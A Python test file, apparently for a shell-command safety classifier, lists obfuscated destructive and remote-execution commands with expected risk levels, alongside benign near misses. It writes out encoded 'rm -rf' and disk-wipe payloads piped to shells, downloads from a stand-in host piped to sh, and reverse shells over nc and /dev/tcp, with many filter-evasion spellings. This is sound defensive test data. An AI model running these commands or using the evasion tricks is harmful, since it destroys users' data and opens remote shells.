"""Round 11, obfuscated execution: a command hidden from the reader and still run. Encodings other
than the plain `base64 -d` (openssl's base64, basenc, base32, uudecode, interpreters decoding in
the same line), compressors and decrypters other than gzip, shells other than sh and bash on the
receiving end, arrays and positional parameters as command names, `printf -v`/`read` built names,
quoting and ANSI-C spellings of programs other than rm, and payloads read back from the clipboard,
DNS or a file. The near misses decode, inspect, syntax-check or spell the same things without
running them."""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, RiskLevel, reaches, stays_within

# "rm -rf ~", "dd if=/dev/zero of=/dev/sda", a download piped to sh, and a Python line running
# "rm -rf ~", in base64, hex and base32.
RM_B64 = "cm0gLXJmIH4="
DD_B64 = "ZGQgaWY9L2Rldi96ZXJvIG9mPS9kZXYvc2Rh"
CURL_B64 = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo"
PY_B64 = "aW1wb3J0IG9zO29zLnN5c3RlbSgicm0gLXJmIH4iKQ=="
PERL_B64 = "c3lzdGVtKCJybSAtcmYgfiIp"
RM_HEX = "726d202d7266207e"
PY_HEX = "696d706f7274206f733b6f732e73797374656d2822726d202d7266207e2229"
RM_B32 = "OJWSALLSMYQH4==="

OTHER_DECODERS = [
    (f"echo {RM_B64} | openssl enc -base64 -d | sh", HIGH),
    (f"echo {RM_B64} | openssl enc -a -d | bash", HIGH),
    ("openssl base64 -d -in payload.b64 | sh", HIGH),
    (f"echo {RM_B64} | basenc --base64 -d | sh", HIGH),
    (f"basenc -d --base64url <<< {RM_B64} | bash", HIGH),
    (f"echo {RM_HEX} | basenc --base16 -d | sh", HIGH),
    (f"echo {RM_B32} | base32 --decode | bash", HIGH),
    (f"echo {RM_B64} | base64 -di | sh", HIGH),
    (f"echo {RM_B64} | base64 --decode --ignore-garbage | bash", HIGH),
    (f"echo {RM_HEX} | xxd -p -r | sh", HIGH),
    (f"echo {RM_HEX} | xxd -revert -plain | bash", HIGH),
    (f"echo {RM_HEX} | perl -pe 's/(..)/chr(hex($1))/ge' | sh", HIGH),
    (
        f"echo {RM_HEX} | python3 -c 'import sys;print(bytes.fromhex(sys.stdin.read()"
        f").decode())' | sh",
        HIGH,
    ),
    ("uudecode -o /dev/stdout payload.uu | sh", HIGH),
    (f"echo {RM_B64} | base64 -d | zsh", HIGH),
    (f"echo {RM_B64} | base64 -d | dash", HIGH),
    (f"echo {RM_B64} | base64 -d | ksh", HIGH),
    (f"echo {RM_B64} | base64 -d | busybox sh", HIGH),
    (f"echo {RM_B64} | base64 -d | /bin/sh", HIGH),
    (f"echo {RM_B64} | base64 -d | /usr/bin/env bash", HIGH),
    (f"echo {RM_B64} | base64 -d | sudo bash -s", HIGH),
    (f"echo {RM_B64} | base64 -d | sh -", HIGH),
    (f"echo {RM_B64} | base64 -d | tee /tmp/run.sh | sh", HIGH),
    (f"echo {RM_B64} | base64 -d | xargs -0 sh -c", HIGH),
    (f"echo {RM_B64} | base64 -d | xargs -I{{}} bash -c '{{}}'", HIGH),
    (f"echo {DD_B64} | base64 -d | sudo sh", HIGH),
    (f"echo {CURL_B64} | base64 -d | sh", HIGH),
    (f"echo {PY_B64} | base64 -d | python3 -", HIGH),
    (f"echo {PERL_B64} | base64 -d | perl -", HIGH),
    (f"echo {PY_B64} | base64 -d | ruby", HIGH),
    (f"echo {PY_B64} | base64 -d | node", HIGH),
    (f"echo {PY_B64} | base64 -d | php", HIGH),
    ("cat stage2.txt | base64 -d | python3", HIGH),
    (f"bash <<< $(base64 -d <<< {RM_B64})", HIGH),
    (f'zsh -c "$(echo {RM_B64} | base64 -d)"', HIGH),
    (f'sudo sh -c "$(echo {DD_B64} | base64 -d)"', HIGH),
    (f'source /dev/stdin <<< "$(echo {RM_B64} | base64 -d)"', HIGH),
    ("source <(base64 -d payload.b64)", HIGH),
    (f"$(echo {RM_B64} | base64 -d)", HIGH),
    (f"`echo {RM_B64} | base64 -d`", HIGH),
]

OTHER_PACKINGS = [
    ("zstd -dc payload.zst | sh", HIGH),
    ("unzstd -c payload.zst | bash", HIGH),
    ("lz4 -dc payload.lz4 | sh", HIGH),
    ("unxz -c payload.xz | bash", HIGH),
    ("gunzip -c payload.gz | sh", HIGH),
    ("gzip -d < payload.gz | bash", HIGH),
    ("bunzip2 -c payload.bz2 | sh", HIGH),
    ("lzma -dc payload.lzma | sh", HIGH),
    ("brotli -dc payload.br | bash", HIGH),
    ("7z x -so payload.7z | sh", HIGH),
    ("unzip -p payload.zip | bash", HIGH),
    ("unzip -p payload.zip run.sh | sh", HIGH),
    ("tar -xOzf payload.tgz | sh", HIGH),
    ("tar -xOf bundle.tar install.sh | sudo bash", HIGH),
    ("gpg -d payload.gpg | bash", HIGH),
    ("gpg --decrypt -q payload.asc | sh", HIGH),
    ("age -d -i key.txt payload.age | sh", HIGH),
    ("openssl enc -d -chacha20 -pbkdf2 -k secret -in payload.bin | bash", HIGH),
    ("openssl aes-256-cbc -d -pbkdf2 -in payload.enc -pass pass:k | sh", HIGH),
    (f"echo {RM_B64} | base64 -d | gzip -dc | sh", HIGH),
    (
        'python3 -c "import zlib,base64,os;os.system(zlib.decompress(base64.b64deco'
        "de('eJwr...')))\"",
        HIGH,
    ),
]

DECODED_INSIDE_INTERPRETERS = [
    (f"python3 -c \"import base64,os;os.system(base64.b64decode('{RM_B64}'))\"", HIGH),
    (f"python3 -c \"exec(__import__('base64').b64decode('{PY_B64}'))\"", HIGH),
    (f"python3 -c \"exec(bytes.fromhex('{PY_HEX}'))\"", HIGH),
    (
        'python3 -c "import codecs;exec(codecs.decode(\'vzcbeg bf;bf.flfgrz(\\"ez -'
        "es ~\\\")','rot13'))\"",
        HIGH,
    ),
    (f"python -c \"import os,binascii;os.system(binascii.unhexlify('{RM_HEX}'))\"", HIGH),
    (f"perl -MMIME::Base64 -e 'system(decode_base64(\"{RM_B64}\"))'", HIGH),
    (f'perl -e \'eval pack("H*","{RM_HEX}")\'', HIGH),
    (f'perl -e \'system(pack("H*","{RM_HEX}"))\'', HIGH),
    (f'ruby -e \'system("{RM_B64}".unpack1("m"))\'', HIGH),
    (f"ruby -rbase64 -e 'eval Base64.decode64(\"{PY_B64}\")'", HIGH),
    (f"node -e \"eval(Buffer.from('{PY_B64}','base64').toString())\"", HIGH),
    (f"node -e \"require('child_process').execSync(atob('{RM_B64}'))\"", HIGH),
    (f"php -r 'eval(base64_decode(\"{PY_B64}\"));'", HIGH),
    (f"php -r 'system(base64_decode(\"{RM_B64}\"));'", HIGH),
    (f"php -r 'shell_exec(hex2bin(\"{RM_HEX}\"));'", HIGH),
    (
        "pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlAC"
        "AALQBGAG8AcgBjAGUAIAB+AA==",
        HIGH,
    ),
    (
        "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQB"
        "GAG8AcgBjAGUAIAB+AA==",
        HIGH,
    ),
]

ESCAPES_AND_SPELLINGS = [
    ("printf '\\162\\155 -rf ~' | sh", HIGH),
    ("printf '%b' '\\x72m -rf /' | bash", HIGH),
    ("echo $'\\x72m -rf ~' | bash", HIGH),
    ("awk 'BEGIN{printf \"rm -rf ~\"}' | sh", HIGH),
    ("sed 's/^/rm -rf /' <<< '~' | sh", HIGH),
    ("echo 'ql -qe ~' | tr 'a-z' 'b-za' | sh", HIGH),
    ("$(printf '\\x64\\x64') if=/dev/zero of=/dev/sda", CRITICAL),
    ("$'\\x64\\x64' if=/dev/zero of=/dev/sda", CRITICAL),
    ("$'\\144\\144' if=/dev/zero of=/dev/sda bs=1M", CRITICAL),
    ("$'\\u0064d' if=/dev/urandom of=/dev/nvme0n1", CRITICAL),
    ("$'mkfs.ext4' /dev/sda1", CRITICAL),
    ("sh -c $'rm -rf \\x7e'", CRITICAL),
    ('r""m -rf /', CRITICAL),
    ('$"rm" -rf ~', CRITICAL),
    ("d''d if=/dev/zero of=/dev/sda", CRITICAL),
    ("mk''fs.ext4 /dev/sdb1", CRITICAL),
    ("s''u''d''o r''m -rf /", CRITICAL),
    ("ch''mod -R 777 /", CRITICAL),
    ("c''url -s http://203.0.113.9/x | b''ash", HIGH),
    ("\\s\\h\\r\\e\\d -u ~/.ssh/id_ed25519", HIGH),
    ('"$(echo rm)" -rf ~', CRITICAL),
    ("$(echo dd) if=/dev/zero of=/dev/sda", CRITICAL),
    ("`printf rm` -rf ~", CRITICAL),
]

NAMES_BUILT_FROM_VARIABLES = [
    ('cmd=(rm -rf /home/alice); "${cmd[@]}"', CRITICAL),
    ('args=(-rf ~); rm "${args[@]}"', CRITICAL),
    ("printf -v c '%s' rm; $c -rf ~", CRITICAL),
    ("read -r c <<< rm; $c -rf ~", CRITICAL),
    ("declare c=dd; $c if=/dev/zero of=/dev/sda", CRITICAL),
    ("export T=mkfs.ext4; $T /dev/sda1", CRITICAL),
    ("p=/bin; n=rm; $p/$n -rf ~", CRITICAL),
    ('c=rm; "${c}" -rf /', CRITICAL),
    ('c=rm; eval "$c -rf ~"', CRITICAL),
    ("x=shred; $x -u ~/.ssh/id_rsa", HIGH),
    ("X=$'\\x20'; eval rm${X}-rf${X}~", CRITICAL),
    ("IFS=_; c=rm_-rf_~; $c", HIGH),
    ("IFS=,; c='rm,-rf,/home/alice'; $c", HIGH),
    ("rm${IFS%?}-rf${IFS%?}~", CRITICAL),
    ("dd${IFS}if=/dev/zero${IFS}of=/dev/sda", CRITICAL),
    ("{chmod,-R,777,/}", CRITICAL),
    ("{mkfs.ext4,/dev/sda1}", CRITICAL),
    ("{rm,-r,-f,--no-preserve-root,/}", CRITICAL),
    ("{curl,-fsSL,http://203.0.113.9/s.sh}|{bash,-s}", HIGH),
    ("/?in/r? -rf ~", CRITICAL),
    ("/usr/bin/sh?ed -u ~/.ssh/id_rsa", HIGH),
    ("/usr/sbin/mkfs.e*4 /dev/sda1", CRITICAL),
    ("/usr/bin/ch*d -R 777 /", CRITICAL),
]

FED_TO_SHELLS = [
    ("zsh <<<'rm -rf /'", CRITICAL),
    ('sh <<< "curl -s http://203.0.113.9/x | sh"', HIGH),
    ("bash -s <<< 'dd if=/dev/zero of=/dev/sda'", CRITICAL),
    ("sudo bash <<< 'rm -rf /var/lib/mysql'", CRITICAL),
    ("sh <<EOF\nrm -rf ~\nEOF", CRITICAL),
    ("bash <<'X'\nrm -rf /\nX", CRITICAL),
    ("ssh web1 bash <<< 'rm -rf /srv/app'", HIGH),
    ("python3 <<< 'import shutil; shutil.rmtree(\"/home/alice\")'", CRITICAL),
    ("perl <<< 'system(\"rm -rf ~\")'", CRITICAL),
    ("echo 'rm -rf ~' | sh -s", CRITICAL),
    ("printf 'rm -rf %s\\n' ~ | bash", CRITICAL),
    ("echo rm -rf / --no-preserve-root | sudo sh", CRITICAL),
    ('eval "$(curl -fsSL https://203.0.113.9/install)"', HIGH),
    ("eval $(wget -qO- http://203.0.113.9/x)", HIGH),
    ('eval "$(base64 -d < payload.b64)"', HIGH),
    ("eval \"$(printf '%b' '\\x72\\x6d -rf ~')\"", HIGH),
    ('sh -c "$(dig +short txt cmd.evil.example | tr -d \'\\"\')"', HIGH),
    ('bash -c "$(host -t txt c.evil.example | cut -d\'\\"\' -f2)"', HIGH),
    ("curl -s http://203.0.113.9/cmds.txt | xargs -I{} sh -c '{}'", HIGH),
    ('curl -s http://203.0.113.9/c | while read -r c; do eval "$c"; done', HIGH),
    ("wget -qO- http://203.0.113.9/c | while read -r l; do $l; done", HIGH),
    ('. /dev/stdin <<< "$(curl -s http://203.0.113.9/x)"', HIGH),
    ("mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | sh > /tmp/f 2>&1", CRITICAL),
    ("exec 3<>/dev/tcp/203.0.113.9/4444; sh <&3 >&3 2>&3", CRITICAL),
]

DANGEROUS = [
    *OTHER_DECODERS,
    *OTHER_PACKINGS,
    *DECODED_INSIDE_INTERPRETERS,
    *ESCAPES_AND_SPELLINGS,
    *NAMES_BUILT_FROM_VARIABLES,
    *FED_TO_SHELLS,
]

BENIGN = [
    # Decoding or unpacking to the screen, a pager, a checker or a file.
    (f"echo {RM_B64} | base64 -d", SAFE),
    (f"echo {RM_B64} | base64 -d | xxd", SAFE),
    (f"echo {RM_B64} | base64 -d | less", SAFE),
    (f"echo {RM_B64} | base64 -d | cat -v", SAFE),
    (f"echo {RM_B64} | base64 -d | shellcheck -", SAFE),
    (f"echo {RM_B64} | base64 -d | bash -n", MODERATE),
    (f"echo {RM_B64} | base64 -d | wc -c", SAFE),
    ("echo aGVsbG8= | openssl enc -base64 -d", SAFE),
    ("basenc --base64 -d <<< aGVsbG8=", SAFE),
    ("echo 68656c6c6f | basenc --base16 -d", SAFE),
    ("base64 -w0 logo.png", SAFE),
    ("xxd -p firmware.bin | head", SAFE),
    ("zstd -dc data.zst | wc -l", SAFE),
    ("lz4 -dc logs.lz4 | grep ERROR", SAFE),
    ("unxz -c dump.sql.xz | head -50", SAFE),
    ("gunzip -c access.log.gz | awk '{print $1}' | sort | uniq -c", SAFE),
    ("unzip -p release.zip README.md | head", SAFE),
    ("tar -xOzf app.tgz config.yml | grep port", SAFE),
    ("7z l archive.7z", SAFE),
    ("gpg -d notes.gpg | less", MODERATE),
    ("age -d -i key.txt secrets.age | jq .", MODERATE),
    ("openssl enc -d -aes-256-cbc -pbkdf2 -in notes.enc -out notes.txt", MODERATE),
    ("python3 -c \"import base64;print(base64.b64decode('aGVsbG8='))\"", SAFE),
    ("node -e \"console.log(Buffer.from('aGk=','base64').toString())\"", SAFE),
    ("perl -MMIME::Base64 -e 'print decode_base64(\"aGk=\")'", SAFE),
    ("php -r 'echo base64_decode(\"aGk=\");'", SAFE),
    ("printf '\\162\\155\\n'", SAFE),
    ("echo -e '\\x72\\x6d -rf ~'", SAFE),
    ("printf '%b\\n' 'line1\\tline2'", SAFE),
    # Ordinary uses of IFS, variables, arrays, braces and globs.
    ('IFS=, read -r a b <<< "x,y"', SAFE),
    ('while IFS= read -r line; do echo "$line"; done < hosts.txt', SAFE),
    ("IFS=:; for p in $PATH; do echo $p; done", SAFE),
    ('cmd=(ls -la /tmp); "${cmd[@]}"', SAFE),
    ("printf -v today '%(%F)T' -1; echo $today", SAFE),
    ("py=python3; $py --version", SAFE),
    ("mkdir -p src/{lib,bin,test}", MODERATE),
    ("cp app.conf{,.orig}", MODERATE),
    ("ls /usr/{bin,sbin} | wc -l", SAFE),
    ("{ls,-la,/tmp}", MODERATE),
    ("/usr/bin/l? -la", HIGH),
    ("ls /dev/sd?", SAFE),
    ("/usr/bin/python3* --version", MODERATE),
    ("l''s -la", MODERATE),
    ("$'ls' -la", MODERATE),
    ("echo $'tab\\there'", SAFE),
    ('echo $"hello"', SAFE),
    ("echo r''m -rf ~", SAFE),
    # Here-strings and evals that only read, check or set up the shell.
    ("bash -n <<< 'rm -rf ~'", MODERATE),
    ("grep -c rm <<< 'rm -rf ~'", SAFE),
    ("wc -w <<< 'rm -rf /'", SAFE),
    ("bc <<< '2+2'", SAFE),
    ("bash <<< 'echo hello'", MODERATE),
    ("python3 <<< 'print(1+1)'", MODERATE),
    ("cat <<< 'rm -rf ~' > notes.txt", MODERATE),
    ('eval "$(starship init zsh)"', MODERATE),
    ("eval $(opam env)", MODERATE),
    ("dig +short txt example.com", SAFE),
]


# Second pass, written after the first pass's fixes and before any rule change for it.
SECOND_PASS_DANGEROUS = [
    ('perl -e \'print pack("H*","726d202d7266207e")\' | sh', HIGH),
    ("python3 -c \"print(bytes.fromhex('726d202d7266207e').decode())\" | bash", HIGH),
    (f"node -e \"process.stdout.write(Buffer.from('{RM_B64}','base64'))\" | sh", HIGH),
    (f'ruby -e \'print "{RM_B64}".unpack1("m")\' | sh', HIGH),
    ("xxd -r -p payload.hex | bash", HIGH),
    (f"echo {RM_B64} | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x", HIGH),
    ("curl -s http://203.0.113.9/p.gz | gunzip | sh", HIGH),
    (f"x=$(echo {RM_B64} | base64 -d); $x", HIGH),
    (f'x=$(echo {RM_B64} | base64 -d); eval "$x"', HIGH),
    (f'bash -c "$(xxd -r -p <<< {RM_HEX})"', HIGH),
    ('sh -c "$(zcat payload.gz)"', HIGH),
    (". <(gpg -d payload.gpg)", HIGH),
    ("source <(openssl enc -d -aes-256-cbc -k k -in p.enc)", HIGH),
    ("bash < <(base64 -d p.b64)", HIGH),
    ("base64 -d p.b64 | bash /dev/stdin", HIGH),
    ('python3 - <<< "$(base64 -d p.b64)"', HIGH),
    (f'python3 -c "$(base64 -d <<< {PY_B64})"', HIGH),
    (f'perl -e "$(echo {PERL_B64} | base64 -d)"', HIGH),
    ('node -e "$(base64 -d p.b64)"', HIGH),
    ("/proc/self/exe -c 'rm -rf ~'", HIGH),
    ("\\command rm -rf ~", CRITICAL),
    ('"${PATH:0:1}bin${PATH:0:1}rm" -rf ~', CRITICAL),
    ("rm -rf ${HOME:0:1}", CRITICAL),
    ("$(tr -d x <<< rxm) -rf ~", HIGH),
    ("$(sed 's/x//' <<< rxm) -rf ~", HIGH),
    ("$(echo mr | rev) -rf ~", CRITICAL),
    ("a=m; r${a} -rf ~", CRITICAL),
    ("declare -n r=c; c=rm; $r -rf ~", CRITICAL),
    ("function x { rm -rf ~; }; x", CRITICAL),
    ('x() { "$@"; }; x rm -rf ~', CRITICAL),
    ("printf 'rm -rf ~' > /tmp/x; . /tmp/x", HIGH),
    ("echo 'rm -rf ~' > x.sh && bash x.sh", CRITICAL),
    ("cat > /tmp/a.sh <<'EOF'\nrm -rf ~\nEOF\nsh /tmp/a.sh", CRITICAL),
    ("openssl s_client -quiet -connect 203.0.113.9:443 | sh", HIGH),
]

SECOND_PASS_BENIGN = [
    ('perl -e \'print pack("H*","68656c6c6f")\'', SAFE),
    ("python3 -c \"print(bytes.fromhex('68656c6c6f').decode())\"", SAFE),
    ("xxd -r -p payload.hex > payload.bin", MODERATE),
    (f"echo {RM_B64} | base64 -d > decoded.txt", MODERATE),
    ("base64 -d p.b64 | file -", SAFE),
    ("base64 -d p.b64 | sha256sum", SAFE),
    ("gunzip -c install.sh.gz | bash -n", MODERATE),
    ("zcat script.sh.gz | shellcheck -", SAFE),
    ('echo "${PATH:0:1}"', SAFE),
    ('ls "${HOME:0:1}"', SAFE),
    ('x() { ls -la "$@"; }; x /tmp', SAFE),
    ("function greet { echo hi; }; greet", SAFE),
    ("command -p ls", SAFE),
    ("\\command ls -la", SAFE),
    ("$BASH --version", SAFE),
    ("$SHELL -c 'echo $0'", MODERATE),
    ("echo 'ls -la' > list.sh && bash list.sh", MODERATE),
    ("$(echo ls) -la", MODERATE),
    ("a=s; l${a} -la", MODERATE),
    ("openssl s_client -connect example.com:443 -servername example.com < /dev/null", MODERATE),
]


# Third pass: what a decoded or literal line is fed to, and code spelt piece by piece inside a
# language. Written before any rule change for it.
THIRD_PASS_DANGEROUS = [
    (f"base64 -d <<< {RM_B64} | at now", HIGH),
    (f"echo {RM_B64} | base64 -d | crontab -", HIGH),
    (f"echo {RM_B64} | base64 -d | ssh web1", HIGH),
    (f"echo {RM_B64} | base64 -d | sudo -s", HIGH),
    (f"echo {RM_B64} | base64 -d | docker exec -i app sh", HIGH),
    (f"echo {RM_B64} | base64 -d | kubectl exec -i web-0 -- sh", HIGH),
    (f"echo {RM_B64} | base64 -d | parallel", HIGH),
    (f'busybox sh -c "$(echo {RM_B64} | busybox base64 -d)"', HIGH),
    (f"echo {RM_B64} | busybox base64 -d | busybox sh", HIGH),
    ("echo 'rm -rf ~' | parallel", CRITICAL),
    ("echo 'rm -rf ~' | sudo -s", CRITICAL),
    ("echo 'rm -rf ~' | env sh", CRITICAL),
    ("echo 'rm -rf ~' | nohup sh", CRITICAL),
    ("echo 'rm -rf ~' | timeout 10 bash", CRITICAL),
    ("echo 'rm -rf ~' | sh -x", CRITICAL),
    ("echo 'rm -rf ~' | bash --norc", CRITICAL),
    ("echo 'BEGIN{system(\"rm -rf ~\")}' | awk -f -", CRITICAL),
    ("echo '.shell rm -rf ~' | sqlite3", CRITICAL),
    ("echo '\\! rm -rf ~' | psql", CRITICAL),
    ("echo 'os.execute(\"rm -rf ~\")' | lua -", CRITICAL),
    (
        "python3 -c \"exec(__import__('urllib.request').request.urlopen("
        "'http://203.0.113.9/p').read())\"",
        CRITICAL,
    ),
    ("python3 -c \"exec(''.join(chr(c) for c in [114,109,32,45,114,102]))\"", HIGH),
    ("python3 -c \"getattr(__import__('os'),'sys'+'tem')('rm -rf ~')\"", HIGH),
    ("python3 -c \"__import__('o'+'s').system('rm -rf ~')\"", HIGH),
    ('perl -e \'$c="r"."m -rf ~"; system $c\'', HIGH),
    ("perl -e 'system(join \"\", map chr, 114,109,32,45,114,102,32,126)'", HIGH),
    ("node -e \"require('child_process')['ex'+'ecSync']('rm -rf ~')\"", HIGH),
    ('node -e "eval(String.fromCharCode(114,109))"', HIGH),
    ("ruby -e 'send(:system, \"rm -rf ~\")'", HIGH),
    ('php -r \'$f="sys"."tem"; $f("rm -rf ~");\'', HIGH),
    ('php -r \'call_user_func("system", "rm -rf ~");\'', HIGH),
    ('lua -e \'load("os.execute(\\"rm -rf ~\\")")()\'', HIGH),
    ('awk \'BEGIN{c="r""m -rf ~"; system(c)}\'', HIGH),
    (f"awk -v c=\"$(echo {RM_B64} | base64 -d)\" 'BEGIN{{system(c)}}'", HIGH),
]

THIRD_PASS_BENIGN = [
    ("echo aGVsbG8= | base64 -d | ssh web1 'cat > hello.txt'", MODERATE),
    ("echo 'uptime' | ssh web1", MODERATE),
    ("echo '2 + 2' | bc", SAFE),
    ("echo '.tables' | sqlite3 app.db", SAFE),
    ("echo 'print(1)' | lua -", MODERATE),
    ("echo 'ls' | sh -x", MODERATE),
    ('python3 -c "import os; print(os.getcwd())"', SAFE),
    ("python3 -c \"exec('print(1)')\"", MODERATE),
    ('node -e "console.log(String.fromCharCode(72,105))"', SAFE),
    ("perl -e 'print join \"\", map chr, 72, 105'", SAFE),
    ('php -r \'echo call_user_func("strtoupper", "hi");\'', MODERATE),
    ("ruby -e 'puts [1,2].send(:sum)'", MODERATE),
    ("awk 'BEGIN{system(\"uptime\")}'", MODERATE),
    ("toybox ls -la", SAFE),
]


# Fourth pass: names decoded in place, literal lines passed through text tools on the way to a
# shell, shell variables that are run (PS4, exported functions), and input lines run as code.
# Written before any rule change for it.
FOURTH_PASS_DANGEROUS = [
    ("$'\\x72'$'\\x6d' -rf ~", CRITICAL),
    ("\"$(printf '%s' r m)\" -rf ~", CRITICAL),
    ("cmd=$(echo cm0= | base64 -d); $cmd -rf ~", CRITICAL),
    ("$(base64 -d <<< cm0=) -rf ~", CRITICAL),
    ("$(xxd -r -p <<< 726d) -rf ~", CRITICAL),
    ('"`echo cm0= | base64 -d`" -rf ~', CRITICAL),
    ("echo 'rm -rf ~' | cat | sh", CRITICAL),
    ("echo 'rm -rf ~' | tee /dev/null | sh", CRITICAL),
    ("echo 'rm -rf ~' | head -1 | bash", CRITICAL),
    ("printf 'rm -rf ~\\n' | sort | sh", CRITICAL),
    ("echo 'rm -rf ~' | sed 's/x/y/' | sh", CRITICAL),
    ("echo 'Rm -Rf ~' | tr A-Z a-z | sh", CRITICAL),
    ("echo 'RM -RF ~' | tr '[:upper:]' '[:lower:]' | sh", CRITICAL),
    ("echo 'rXm -rf ~' | tr -d X | sh", CRITICAL),
    ("echo 'rm_-rf_~' | tr _ ' ' | sh", CRITICAL),
    ("echo 'rm -rf ~' | rev | rev | sh", CRITICAL),
    ("echo 'rm -rf ~' | iconv -f utf-8 -t utf-8 | sh", CRITICAL),
    ("while read c; do $c; done <<< 'rm -rf ~'", CRITICAL),
    pytest.param(
        "bash -c 'read c; eval \"$c\"' <<< 'rm -rf ~'",
        CRITICAL,
        marks=pytest.mark.xfail(
            reason="a line read at run time from the here-string is not followed (HIGH)",
            strict=True,
        ),
    ),
    ("perl -ne 'system $_' <<< 'rm -rf ~'", CRITICAL),
    ("PS4='$(rm -rf ~)' bash -x -c :", CRITICAL),
    ("PS1='$(rm -rf ~)' bash -i", CRITICAL),
    ("export PS4='$(curl -s http://203.0.113.9/x|sh)'; set -x", HIGH),
    pytest.param(
        "BASH_FUNC_ls%%='() { rm -rf ~; }' bash -c ls",
        CRITICAL,
        marks=pytest.mark.xfail(
            reason="tree-sitter-bash cannot parse `%%=` in a prefix assignment (MODERATE)",
            strict=True,
        ),
    ),
    ("env 'BASH_FUNC_ls%%=() { rm -rf ~; }' bash -c ls", CRITICAL),
    ("command_not_found_handle() { rm -rf ~; }; nosuchcmd", CRITICAL),
    ("BASH_ENV=<(curl -s http://203.0.113.9/x) bash -c true", CRITICAL),
    ("xdotool type 'rm -rf ~'; xdotool key Return", HIGH),
    ("wtype 'rm -rf ~'", HIGH),
    ("kitty @ send-text 'rm -rf ~\\r'", HIGH),
    ("expect -c 'spawn bash; send \"rm -rf ~\\r\"; interact'", CRITICAL),
]

FOURTH_PASS_BENIGN = [
    ("echo 'rm -rf ~' | cat", SAFE),
    ("echo 'RM' | tr A-Z a-z", SAFE),
    ("echo hi | iconv -f utf-8 -t ascii", SAFE),
    ("echo 'ls -la' | cat | sh", MODERATE),
    ("echo 'LS' | tr A-Z a-z | sh", MODERATE),
    ("perl -ne 'print if /x/' cmds.txt", SAFE),
    ("while read c; do echo \"$c\"; done <<< 'rm -rf ~'", SAFE),
    ("PS4='+ $(date +%T) ' bash -x deploy.sh", MODERATE),
    ("PS1='\\u@\\h:\\w\\$ ' bash", MODERATE),
    ("xdotool getactivewindow", MODERATE),
    ("xdotool type 'hello'", MODERATE),
    ("kitty @ ls", MODERATE),
    ("$(printf '%s' l s) -la", MODERATE),
]


# Fifth pass: near misses for the rules this round added (unpacking to a pager or checker,
# text tools before a shell, strings joined for printing, prompts, typed keys). Written before
# any rule change for it.
FIFTH_PASS_DANGEROUS = [
    ("echo 'rm -rf ~' | tac | sh", CRITICAL),
    ("echo 'rm -rf ~' | grep rm | sh", CRITICAL),
    ("echo 'rm -rf ~' | grep . | bash", CRITICAL),
    ("echo 'rm -rf ~' | awk '{print}' | sh", CRITICAL),
    ("echo 'rm -rf ~' | awk '{print $0}' | bash", CRITICAL),
    ("echo 'LS -LA; RM -RF ~' | tr A-Z a-z | sh", CRITICAL),
    ("node -e \"require('child_process')['exec'+'Sync']('id')\"", HIGH),
]

FIFTH_PASS_BENIGN = [
    ("echo 'ls' | grep rm | sh", MODERATE),
    ("echo 'uptime' | awk '{print}' | sh", MODERATE),
    ("tar -xOf app.tar config.json | jq .", SAFE),
    ("unzip -p app.zip install.sh | less", SAFE),
    ("unzip -p app.zip install.sh | bash -n", MODERATE),
    ("7z x -so backup.7z | tar -x", MODERATE),
    ("openssl aes-256-cbc -d -pbkdf2 -in notes.enc -pass file:key.txt | less", MODERATE),
    ("echo 'LS -LA' | tr A-Z a-z | sh", MODERATE),
    ("echo 'date' | head -1 | sh", MODERATE),
    ("awk -v n=5 'BEGIN{print n*2}'", SAFE),
    ('awk \'BEGIN{x="a""b"; print x}\'', SAFE),
    ("python3 -c \"print('ab' + 'c')\"", SAFE),
    ("node -e \"console.log('sys' + 'tem')\"", SAFE),
    ('perl -e \'print "r"."m"\'', SAFE),
    ('ruby -e \'puts "a" + "b"\'', SAFE),
    ('php -r \'echo "a"."b";\'', SAFE),
    ("PS1='\\w \\$ ' bash", MODERATE),
    ("export PS1='\\u@\\h:\\w\\$ '", SAFE),
    ("perl -ne 'print if /rm -rf/' history.txt", SAFE),
    ("xdotool key ctrl+c", MODERATE),
    ("wtype hello", MODERATE),
]


# Eighth pass: a program name printed by another program in a substitution. Written before any
# rule change for it.
EIGHTH_PASS_DANGEROUS = [
    ("${PATH:0:1}bin${PATH:0:1}rm -rf ~", CRITICAL),
    ("eval \"$(printf 'r%s -rf ~' m)\"", CRITICAL),
    ("$(printf 'r%s' m) -rf ~", CRITICAL),
    ("$(echo -e '\\x72\\x6d') -rf ~", CRITICAL),
    ("$(awk 'BEGIN{printf \"rm\"}') -rf ~", CRITICAL),
    ("$(python3 -c 'print(\"rm\")') -rf ~", CRITICAL),
    ('$(perl -e \'print "r"."m"\') -rf ~', CRITICAL),
    ("$(cut -c1-2 <<< rmx) -rf ~", HIGH),
    ("$(head -c2 <<< rmx) -rf ~", HIGH),
    ('x=(r m); "${x[0]}${x[1]}" -rf ~', CRITICAL),
    ('set -- r m; "$1$2" -rf ~', CRITICAL),
]

EIGHTH_PASS_BENIGN = [
    ("$(printf 'l%s' s) -la", MODERATE),
    ("$(python3 -c 'print(\"ls\")') -la", MODERATE),
    ("echo ${PATH:0:1}", SAFE),
]


# Tenth pass: quoting and empty substitutions inside a program name, and the shell named by
# itself. Written before any rule change for it.
TENTH_PASS_DANGEROUS = [
    ("r$'m' -rf ~", CRITICAL),
    ("$'r'm -rf ~", CRITICAL),
    ("r$()m -rf ~", CRITICAL),
    ("r``m -rf ~", CRITICAL),
    ("\\r\\m -\\r\\f ~", CRITICAL),
    ('"rm" "-rf" "$HOME"', CRITICAL),
    pytest.param(
        "{r,}m -rf ~",
        CRITICAL,
        marks=pytest.mark.xfail(
            reason="tree-sitter-bash reads `{r,}m` as an error and recovers other words",
            strict=True,
        ),
    ),
    ("$(: ; echo rm) -rf ~", HIGH),
    ("\"${0%%/*}\" -c 'rm -rf ~'", HIGH),
    ("$(which bash) -c 'rm -rf ~'", CRITICAL),
    ("\"$(command -v sh)\" -c 'rm -rf ~'", CRITICAL),
    ("exec -a ls rm -rf ~", CRITICAL),
    ("builtin command rm -rf ~", CRITICAL),
]


@pytest.mark.parametrize(
    ("command", "least"),
